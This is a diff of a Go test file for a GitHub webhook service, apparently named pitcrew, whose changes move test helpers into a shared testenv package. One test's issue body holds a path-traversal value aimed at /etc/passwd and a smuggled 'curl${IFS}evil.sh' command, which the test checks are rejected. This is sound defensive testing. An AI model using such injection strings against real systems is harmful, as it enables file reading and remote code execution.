@@ -1,4 +1,4 @@
-package handlers
+package server
 
 import (
 	"bytes"
@@ -12,6 +12,7 @@ import (
 	"github.com/hibiken/asynq"
 
 	"github.com/pitcrew/pitcrew/hook"
+	"github.com/pitcrew/pitcrew/internal/testenv"
 	"github.com/pitcrew/pitcrew/queue"
 )
 
@@ -29,7 +30,7 @@ func (h *harness) storedTasks() int {
 
 func TestIntakeRejectsBadDeliveriesBeforeStoringAnything(t *testing.T) {
 	h := newHarness(t, false)
-	good := labeledEvent(t, "flaky", "alice", 1, flakyTest, "")
+	good := testenv.LabeledEvent(t, "flaky", "alice", 1, flakyTest, "")
 	big := append([]byte(`{"action":"labeled","pad":"`), bytes.Repeat([]byte("x"), hook.MaxGitHubBody)...)
 	big = append(big, `"}`...)
 	cases := []struct {
@@ -46,7 +47,7 @@ func TestIntakeRejectsBadDeliveriesBeforeStoringAnything(t *testing.T) {
 		{"body over the limit", big, sign(testWebhookSecret, big), http.StatusRequestEntityTooLarge},
 	}
 	for _, c := range cases {
-		if code := h.deliverSigned("issues", newDeliveryID(), c.payload, c.signature); code != c.want {
+		if code := h.deliverSigned("issues", testenv.DeliveryID(), c.payload, c.signature); code != c.want {
 			t.Errorf("%s: answered %d, want %d", c.name, code, c.want)
 		}
 	}
@@ -56,10 +57,10 @@ func TestIntakeRejectsBadDeliveriesBeforeStoringAnything(t *testing.T) {
 	if keys := h.redis.Keys(t.Context(), "pitcrew:*").Val(); len(keys) != 0 {
 		t.Fatalf("ledger touched: %v", keys)
 	}
-	if code := h.deliver("issues", newDeliveryID(), good); code != http.StatusAccepted || h.storedTasks() != 1 {
+	if code := h.deliver("issues", testenv.DeliveryID(), good); code != http.StatusAccepted || h.storedTasks() != 1 {
 		t.Fatalf("a good delivery answered %d", code)
 	}
-	if code := h.deliver("star", newDeliveryID(), []byte(`{"action":"created"}`)); code != http.StatusOK || h.storedTasks() != 1 {
+	if code := h.deliver("star", testenv.DeliveryID(), []byte(`{"action":"created"}`)); code != http.StatusOK || h.storedTasks() != 1 {
 		t.Fatalf("an event pitcrew does not handle answered %d", code)
 	}
 }
@@ -67,7 +68,7 @@ func TestIntakeRejectsBadDeliveriesBeforeStoringAnything(t *testing.T) {
 func TestLabelWithoutUsableTestExplainsAndStartsNothing(t *testing.T) {
 	h := newHarness(t, true)
 	body := "Candidates: test/../../etc/passwd_test.exs:1 and test/hexpm/a_test.exs:1;curl${IFS}evil.sh and test/hexpm/accounts/user_test.exs"
-	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky", "alice", 5, "Flaky tests", body))
+	h.deliver("issues", testenv.DeliveryID(), testenv.LabeledEvent(t, "flaky", "alice", 5, "Flaky tests", body))
 	h.eventually("the explaining comment", h.commentContains(5, "Nothing was started"))
 	c := h.statusComment(5).Body
 	for _, want := range []string{"contains `..`", "contains characters a test path cannot have", "has no line number", "test/path/to/file_test.exs:LINE", "remove the `flaky` label"} {
@@ -83,7 +84,7 @@ func TestLabelWithoutUsableTestExplainsAndStartsNothing(t *testing.T) {
 func TestLabelFromUserWithoutWriteAccess(t *testing.T) {
 	h := newHarness(t, true)
 	h.gh.SetPermission("mallory", "read")
-	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky", "mallory", 6, flakyTest, ""))
+	h.deliver("issues", testenv.DeliveryID(), testenv.LabeledEvent(t, "flaky", "mallory", 6, flakyTest, ""))
 	h.eventually("the refusal", h.commentContains(6, "only people with write access"))
 	if h.sandbox.SessionCount() != 0 {
 		t.Fatal("a session was started for a reader")
@@ -92,22 +93,22 @@ func TestLabelFromUserWithoutWriteAccess(t *testing.T) {
 
 func TestLabelsIgnored(t *testing.T) {
 	h := newHarness(t, true)
-	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky", "dependabot[bot]", 9, flakyTest, ""))
-	h.deliver("issues", newDeliveryID(), labeledEvent(t, "bug", "alice", 10, flakyTest, ""))
+	h.deliver("issues", testenv.DeliveryID(), testenv.LabeledEvent(t, "flaky", "dependabot[bot]", 9, flakyTest, ""))
+	h.deliver("issues", testenv.DeliveryID(), testenv.LabeledEvent(t, "bug", "alice", 10, flakyTest, ""))
 	h.eventually("both deliveries handled", func() bool { return strings.Count(h.logs.String(), "delivery handled") == 2 })
 	if h.sandbox.SessionCount() != 0 || h.gh.Count(opCreateComment) != 0 {
 		t.Fatalf("sessions %d, comments %d", h.sandbox.SessionCount(), h.gh.Count(opCreateComment))
 	}
 	// pitcrew's own bot may label (e.g. issues it files itself), without a
 	// permission check.
-	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky", "pitcrew[bot]", 11, flakyTest, ""))
+	h.deliver("issues", testenv.DeliveryID(), testenv.LabeledEvent(t, "flaky", "pitcrew[bot]", 11, flakyTest, ""))
 	h.eventually("a run for pitcrew's own label", func() bool { return h.sandbox.SessionCount() == 1 })
 }
 
 func TestBrokenConfigIsReportedNotDefaulted(t *testing.T) {
 	h := newHarness(t, true)
 	h.gh.SetFile("hexpm/hexpm", ".github/pitcrew.yml", "flaky:\n  lable: flaky-test\n")
-	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky", "alice", 12, flakyTest, ""))
+	h.deliver("issues", testenv.DeliveryID(), testenv.LabeledEvent(t, "flaky", "alice", 12, flakyTest, ""))
 	h.eventually("the config error", h.commentContains(12, "field lable not found"))
 	if h.sandbox.SessionCount() != 0 {
 		t.Fatal("a session started with a broken configuration")
@@ -118,8 +119,8 @@ func TestConfiguredLabelAndOrgDefaults(t *testing.T) {
 	h := newHarness(t, true)
 	// No file in the repository: the owner's .github repository supplies it.
 	h.gh.SetFile("hexpm/.github", "pitcrew.yml", "flaky:\n  label: flaky-test\n  verify_runs: 80\n")
-	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky", "alice", 13, "test/a_test.exs:1", ""))
-	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky-test", "alice", 14, "test/b_test.exs:2", ""))
+	h.deliver("issues", testenv.DeliveryID(), testenv.LabeledEvent(t, "flaky", "alice", 13, "test/a_test.exs:1", ""))
+	h.deliver("issues", testenv.DeliveryID(), testenv.LabeledEvent(t, "flaky-test", "alice", 14, "test/b_test.exs:2", ""))
 	h.eventually("both deliveries handled", func() bool { return strings.Count(h.logs.String(), "delivery handled") == 2 })
 	reqs, _ := h.sandbox.StartRequests()
 	if len(reqs) != 1 || !strings.Contains(reqs[0].Input, "test/b_test.exs:2") || !strings.Contains(reqs[0].Input, "Run the test 80 times") {
@@ -133,9 +134,9 @@ func TestConfiguredLabelAndOrgDefaults(t *testing.T) {
 func TestDailyLimit(t *testing.T) {
 	h := newHarness(t, true)
 	h.gh.SetFile("hexpm/hexpm", ".github/pitcrew.yml", "daily_limit: 1\n")
-	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky", "alice", 40, "test/a_test.exs:1", ""))
+	h.deliver("issues", testenv.DeliveryID(), testenv.LabeledEvent(t, "flaky", "alice", 40, "test/a_test.exs:1", ""))
 	h.eventually("the first run", h.commentContains(40, "the agent is working on it"))
-	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky", "alice", 41, "test/b_test.exs:2 and test/a_test.exs:1", ""))
+	h.deliver("issues", testenv.DeliveryID(), testenv.LabeledEvent(t, "flaky", "alice", 41, "test/b_test.exs:2 and test/a_test.exs:1", ""))
 	h.eventually("the limit", h.commentContains(41, "`test/b_test.exs:2`: not started: the daily limit of 1 runs for this repository is reached."))
 	// A test with a live run still attaches: the limit only stops new runs.
 	if c := h.statusComment(41).Body; !strings.Contains(c, "already being fixed by a run started from #40") {
@@ -160,8 +161,8 @@ func TestGitHubOutagesAndRateLimitsAreWaitedOut(t *testing.T) {
 func TestGitHub404FailsTheStepAtOnce(t *testing.T) {
 	h := newHarness(t, true)
 	h.gh.FailNext(404, nil, 20) // every call, retried or not, would get the same
-	id := newDeliveryID()
-	h.deliver("issues", id, labeledEvent(t, "flaky", "alice", 81, flakyTest, ""))
+	id := testenv.DeliveryID()
+	h.deliver("issues", id, testenv.LabeledEvent(t, "flaky", "alice", 81, flakyTest, ""))
 	// A step the queue will retry is "retry"; one it gave up on is "archived".
 	inspector := asynq.NewInspectorFromRedisClient(h.redis)
 	h.eventually("the delivery to be given up", func() bool {
@@ -176,8 +177,8 @@ func TestGitHub404FailsTheStepAtOnce(t *testing.T) {
 func TestAnotherInstallationCannotReachARun(t *testing.T) {
 	h := newHarness(t, true)
 	h.startOne(96)
-	foreign := strings.Replace(string(labeledEvent(t, "flaky", "alice", 97, flakyTest, "")), `"id":42`, `"id":43`, 1)
-	h.deliver("issues", newDeliveryID(), []byte(foreign))
+	foreign := strings.Replace(string(testenv.LabeledEvent(t, "flaky", "alice", 97, flakyTest, "")), `"id":42`, `"id":43`, 1)
+	h.deliver("issues", testenv.DeliveryID(), []byte(foreign))
 	h.eventually("the refusal", h.commentContains(97, "belongs to another installation"))
 	if h.sandbox.SessionCount() != 1 {
 		t.Fatalf("%d sessions", h.sandbox.SessionCount())
